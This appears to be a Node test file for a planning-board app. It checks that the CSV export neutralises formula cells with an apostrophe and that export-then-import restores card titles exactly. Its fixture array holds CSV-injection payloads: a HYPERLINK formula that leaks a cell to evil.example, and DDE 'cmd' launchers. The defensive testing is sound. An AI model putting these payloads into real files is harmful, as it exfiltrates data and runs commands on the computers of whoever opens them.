import { test } from 'node:test';
import assert from 'node:assert/strict';
import Papa from 'papaparse';
import { STORY_CARD_TYPE, derivePlanning, getRecordsMap, storyCardRecord, type BoardExport, type ImportResult } from '@planboard/shared';
import { closeAll, connectClient, waitFor, waitForSync } from '../support/clients.js';
import { createBoardWithLinks, startServer } from '../support/server.js';

// Defect 2 of issue 11: an editor titles cards with spreadsheet formulas; whoever opens a view
// link's export.csv in Excel, LibreOffice or Sheets would run them.
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
];
// Legitimate titles that start the same way must come back exactly.
const LEGITIMATE = ['-1 day buffer', '=tbd', '+1 from the team', '@ada review', "'quoted on purpose", "'=already escaped"];
const FORMULA_START = /^[=+\-@\t\r]/;

test('export.csv neutralises formula cells for a viewer, and export → import gives back every title exactly', async () => {
  const server = await startServer();
  let editor: ReturnType<typeof connectClient> | null = null;
  try {
    const board = await createBoardWithLinks(server, 'Formulas', 'backlog');
    editor = connectClient(server.wsUrl, board.id, undefined, board.links.edit.token);
    await waitForSync(editor.provider);
    const records = getRecordsMap(editor.doc);
    const lane = derivePlanning(records.values()).lanes[0]!;
    // Valid tldraw fractional indices (the edge refuses a shape whose index tldraw would reject).
    const titles = [...HOSTILE, ...LEGITIMATE];
    editor.doc.transact(() => {
      titles.forEach((title, i) => {
        const card = storyCardRecord({ x: 20, y: 20 + i * 150, index: `a${'23456789ABCDEFGHJK'[i]}`, parentId: lane.id }, { title, assignee: i === 0 ? '=1+1' : '', labels: i === 1 ? ['@x', '-y'] : [] });
        records.set(card.id, card);
      });
    });
    const exportUrl = `${server.url}/api/boards/${board.id}/export.csv`;
    const asViewer = { headers: { authorization: `Bearer ${board.links.view.token}` } };
    await waitFor(() => derivePlanning(records.values()).cards.length === titles.length, 'cards written');
    let csv = '';
    for (let tries = 0; tries < 100; tries++) {
      csv = await (await fetch(exportUrl, asViewer)).text();
      if (Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.length === titles.length + 1) break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1).flat();
    const dangerous = cells.filter((cell) => FORMULA_START.test(cell));
    const neutralised = cells.filter((cell) => /^'+[=+\-@\t\r]/.test(cell));
    console.log(`# export.csv: ${cells.length} cells; ${dangerous.length} start with a formula character, ${neutralised.length} were neutralised with an apostrophe`);
    assert.deepEqual(dangerous, [], 'a spreadsheet would run these cells');
    assert.ok(cells.includes(`'${HOSTILE[0]}`), 'neutralised with a leading apostrophe (OWASP)');

    // Round trip: the export imported into a second board gives the same cards.
    const copy = await createBoardWithLinks(server, 'Copy');
    const imported = await fetch(`${server.url}/api/boards/${copy.id}/import`, {
      method: 'POST',
      headers: { authorization: `Bearer ${copy.links.edit.token}`, 'content-type': 'text/csv' },
      body: csv,
    });
    assert.equal(imported.status, 200, await imported.clone().text());
    assert.equal(((await imported.json()) as ImportResult).imported, titles.length);
    const exported = (await (await fetch(`${server.url}/api/boards/${copy.id}/export.json`, { headers: { authorization: `Bearer ${copy.links.view.token}` } })).json()) as BoardExport;
    const back = Object.values(exported.records).filter((r) => (r as { type?: string }).type === STORY_CARD_TYPE) as { props: { title: string; assignee: string; labels: string[] } }[];
    assert.deepEqual(back.map((card) => card.props.title).sort(), [...titles].sort());
    assert.ok(back.some((card) => card.props.assignee === '=1+1'));
    assert.ok(back.some((card) => card.props.labels.join() === '@x,-y'));
  } finally {
    if (editor) closeAll(editor.provider);
    await server.stop();
    server.cleanup();
  }
});
